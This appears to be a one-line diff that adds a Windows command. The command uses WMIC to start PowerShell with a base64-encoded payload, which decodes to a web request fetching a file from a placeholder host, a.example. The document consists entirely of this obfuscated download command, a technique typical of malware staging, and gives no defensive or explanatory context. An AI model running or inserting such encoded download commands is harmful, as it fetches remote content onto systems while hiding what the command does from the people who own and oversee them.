@@ -1,0 +1,1 @@
+wmic process call create "powershell -e aQB3AHIAIABoAHQAdABwADoALwAvAGEALgBlAHgAYQBtAHAAbABlAC8AcAAvAHgALgB0AHgAdAA="
